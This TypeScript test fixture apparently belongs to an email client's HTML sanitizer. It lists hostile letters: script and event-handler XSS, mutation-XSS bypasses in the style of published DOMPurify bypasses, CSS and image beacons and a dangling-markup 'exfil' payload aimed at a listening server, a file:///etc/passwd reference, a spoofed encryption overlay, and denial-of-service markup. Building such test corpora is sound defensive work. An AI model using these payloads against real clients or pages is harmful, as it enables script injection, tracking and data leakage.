/**
 * Letters that try to run something or to tell somebody that they are read. `origin` is a server that
 * listens: whatever reaches it got out. `ran()` is a script that calls it and leaves a mark.
 * Kinds: html5sec.org, the published bypasses of DOMPurify, Email Privacy Tester, EFAIL.
 */
export interface HostileLetter {
  readonly name: string;
  readonly html: string;
}

export function hostileLetters(origin: string): HostileLetter[] {
  const url = (path: string) => `${origin}/${path}`;
  const run = `top.ran=1;new Image().src='${url('script')}'`;
  const image = `<img src=x onerror="${run}">`;
  const css = (rule: string) => `<style>${rule}</style><p class="p" title="abc">styled</p>`;
  const inline = (style: string) => `<p style="${style}">styled</p>`;
  const letters: Readonly<Record<string, string>> = {
    // Scripts.
    'script elements': `<script>${run}</script><script src="${url('s.js')}"></script><script type="module">${run}</script>`,
    'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url('prefetch')}"]}]}</script>`,
    'event attributes': `${image}<b onclick="${run}" onmouseover="${run}" onfocus="${run}" autofocus tabindex=0>x</b><details open ontoggle="${run}">x</details><body onload="${run}"><p onanimationstart="${run}">x</p>`,
    'script links': `<a href="javascript:${run}">a</a><a href="java&#x0A;script:${run}">b</a><a href="&#1;javascript:${run}">c</a><a href="data:text/html,<script>${run}</script>">d</a><a href="vbscript:x">e</a>`,
    'a form that sends itself': `<form id=f action="${url('form')}" method=post><input name=a value=b autofocus onfocus="f.submit()"><button formaction="${url('button')}">x</button><input type=image src="${url('input.png')}"></form>`,
    // Documents that lead elsewhere.
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${url('refresh')}"><meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri ${url('report')}"><img src="${url('reported.png')}">`,
    'a base': `<base href="${origin}/" target="_top"><img src="base.png"><a href="base">x</a>`,
    'nested frames': `<iframe src="${url('frame')}"></iframe><iframe srcdoc="<script>${run}</script><img src='${url('srcdoc.png')}'>"></iframe><frameset><frame src="${url('frameset')}"></frameset>`,
    'objects and embeds': `<object data="${url('object')}" type="text/html"><embed src="${url('embed')}"></object><applet code="x" archive="${url('applet')}"></applet><portal src="${url('portal')}"></portal>`,
    'links of the head': `<link rel=stylesheet href="${url('a.css')}"><link rel=preload as=image href="${url('preload.png')}"><link rel=prefetch href="${url('prefetch')}"><link rel=dns-prefetch href="//dns.letterlock.test"><link rel=preconnect href="${origin}"><link rel=icon href="${url('icon.png')}"><link rel=manifest href="${url('manifest')}"><link rel=modulepreload href="${url('module.js')}"><link rel=prerender href="${url('prerender')}">`,
    'a link that pings': `<a href="https://example.org/" ping="${url('ping')}">x</a>`,
    // Vector graphics and formulas.
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><script href="${url('svg.js')}"/><image href="${url('image.png')}"/><use href="${url('use.svg')}#x"/><filter><feImage href="${url('feimage.png')}"/></filter><style>@import "${url('svg.css')}";</style><animate attributeName=href values="javascript:${run}"/><a href="javascript:${run}"><text>x</text></a></svg>`,
    'svg with foreign content': `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe>${image}</foreignObject></svg>`,
    mathml: `<math><mtext href="javascript:${run}">x</mtext><maction actiontype="statusline" xlink:href="javascript:${run}">y</maction><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
    // Resources.
    'pictures of every kind': `<img src="${url('img.png')}"><img srcset="${url('srcset.png')} 1x, ${url('srcset2.png')} 2x"><picture><source srcset="${url('source.png')}"><img src="${url('fallback.png')}"></picture><img lowsrc="${url('lowsrc.png')}" dynsrc="${url('dynsrc.png')}" longdesc="${url('longdesc')}"><img src="${origin.replace(/^http:/, '')}/noscheme.png"><image src="${url('image-tag.png')}">`,
    'sound and film': `<video src="${url('video')}" poster="${url('poster.png')}" autoplay><track src="${url('track.vtt')}" default><source src="${url('source.mp4')}"></video><audio src="${url('audio')}" autoplay></audio><bgsound src="${url('bgsound')}">`,
    'background attributes': `<body background="${url('body.png')}"><table background="${url('table.png')}"><tr background="${url('tr.png')}"><td background="${url('td.png')}">x</td></tr></table>`,
    'addresses of other kinds': `<img src="\\\\127.0.0.1\\share\\a.png"><img src="file:///etc/passwd"><img src="ftp://127.0.0.1/a.png"><img src="ws://127.0.0.1/"><img src="blob:${origin}/0"><img src="filesystem:${origin}/a"><img src="about:blank"><img src="/part/0000"><img src="/remote/0000"><img src="?a"><img src="">`,
    // Styles.
    'imported and fonts': css(
      `@import "${url('import.css')}";@import url(${url('import2.css')});@font-face{font-family:f;src:url(${url('font.woff2')})}.p{font-family:f}`,
    ),
    'pictures of a style sheet': css(
      `.p{background:url(${url('bg.png')});cursor:url(${url('cursor.cur')}),auto;list-style:url(${url('list.png')});border-image:url(${url('border.png')}) 1;mask:url(${url('mask.svg')});filter:url(${url('filter.svg')}#f);clip-path:url(${url('clip.svg')}#c);shape-outside:url(${url('shape.png')})}.p::before{content:url(${url('content.png')})}`,
    ),
    'functions that name pictures': css(
      `.p{background:image-set("${url('set.png')}" 1x);background-image:-webkit-image-set(url(${url('wset.png')}) 1x);background-image:cross-fade(url(${url('fade.png')}),url(${url('fade2.png')}),50%);background-image:-webkit-cross-fade(url(${url('wfade.png')}),url(${url('wfade2.png')}),50%)}`,
    ),
    'attribute selectors': css(
      `.p[title^=a]{background:url(${url('starts-a')})}.p[title*=bc]{background:url(${url('has-bc')})}:root:has(p){background:url(${url('has-p')})}`,
    ),
    'rules within rules': css(
      `@media all{.p{background:url(${url('media.png')})}}@supports (color:red){.p{background:url(${url('supports.png')})}}@container (width>0){.p{background:url(${url('container.png')})}}@layer x{.p{background:url(${url('layer.png')})}}@keyframes k{to{background:url(${url('keyframes.png')})}}.p{animation:k 1s;&{background:url(${url('nested.png')})}}@property --x{syntax:"<url>";inherits:true;initial-value:url(${url('property.png')})}`,
    ),
    'styles with escapes': `${inline(`background:u\\72l(${url('escape.png')})`)}${inline(`background:url(${url('plain.png')})`)}${inline(`--a:url(${url('variable.png')});background:var(--a)`)}${inline(`background:\\75\\72\\6c(${url('escape2.png')})`)}`,
    'a style that closes itself': `<style><a title="</style>${image}">${css(`/*</style>${image}*/`)}`,
    'something laid over the window': `<style>html{position:fixed;inset:0;z-index:2147483647}</style><div style="position:fixed;inset:0;z-index:2147483647;background:red">Encrypted to mail.example.org</div>`,
    // Own paths and content ids.
    'tricks with content ids': `<img src="cid:unknown@x"><img src="cid:../../part/x"><img src="cid:x&quot; onerror=&quot;${run}"><img src="CID:%2e%2e%2f"><p style="background:url(cid:unknown@x)">x</p><img src="cid:${url('cid')}">`,
    'data addresses': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run.replaceAll("'", '%27')}'><image href='${url('in-svg.png')}'/></svg>"><iframe src="data:text/html,<script>${run}</script>"></iframe><object data="data:text/html,<script>${run}</script>"></object><img src="data:text/html,<script>${run}</script>">`,
    // What is read twice and means two things.
    'mutation: mglyph in a table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run.replaceAll("'", '')}&gt;">`,
    'mutation: two forms': `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    'mutation: svg and p': `<svg></p><style><a id="</style>${image}">`,
    'mutation: noscript': `<noscript><p title="</noscript>${image}"></noscript>`,
    'mutation: raw text': `<xmp><p title="</xmp>${image}"></xmp><textarea><p title="</textarea>${image}"></textarea><title><p title="</title>${image}"></title><plaintext>${image}`,
    'mutation: template and select': `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
    'mutation: comments': `<!--><${image.slice(1)}--><!--!>${image}<!-- --!>${image}--><![CDATA[>${image}]]><?xml >${image}?>`,
    'mutation: annotation': `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math><svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${run.replaceAll("'", '')}>">`,
    'mutation: depth': `<form><div>${'<div>'.repeat(250)}<table></form><form><svg><style><a title="</style>${image}">`,
    'elements with names': `<form name=body><input name=firstElementChild><img name=createElement><img name=documentElement><a id=defaultView></a></form><embed name=getElementById>`,
    unclosed: `<img src="${url('unclosed')}`,
    'split in two': `<img src='${url('exfil')}?`,
  };
  return Object.entries(letters).map(([name, html]) => ({ name, html }));
}

/** Letters that try to hold the window up. */
export function heavyLetters(): HostileLetter[] {
  return [
    {
      name: 'five megabytes of paragraphs',
      html: '<p>One of very many lines.</p>'.repeat(178_000),
    },
    {
      name: 'ten thousand levels',
      html: `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`,
    },
    { name: 'ten thousand levels of markup', html: '<b><i><font>'.repeat(3_334) },
    { name: 'fifty thousand tables', html: '<table><tr><td>x</table>'.repeat(50_000) },
    {
      name: 'a table of thirty thousand cells',
      html: `<table>${'<tr><td>a<td>b<td>c</tr>'.repeat(5_000)}</table>`,
    },
    {
      name: 'a style sheet of a megabyte',
      html: `<style>${'.a>.b~.c:not(.d){color:red}'.repeat(38_000)}</style><p>x</p>`,
    },
    { name: 'a word of a megabyte', html: `<p>${'a'.repeat(1_000_000)}</p>` },
    { name: 'a megabyte of at signs', html: `<p>${'a@'.repeat(500_000)}</p>` },
    { name: 'brackets of a megabyte', html: '<'.repeat(1_000_000) },
    { name: 'entities of a megabyte', html: '&amp;'.repeat(200_000) },
    {
      name: 'attributes of a megabyte',
      html: `<p ${Array.from({ length: 60_000 }, (_, at) => `a${at}=b`).join(' ')}>x</p>`,
    },
  ];
}
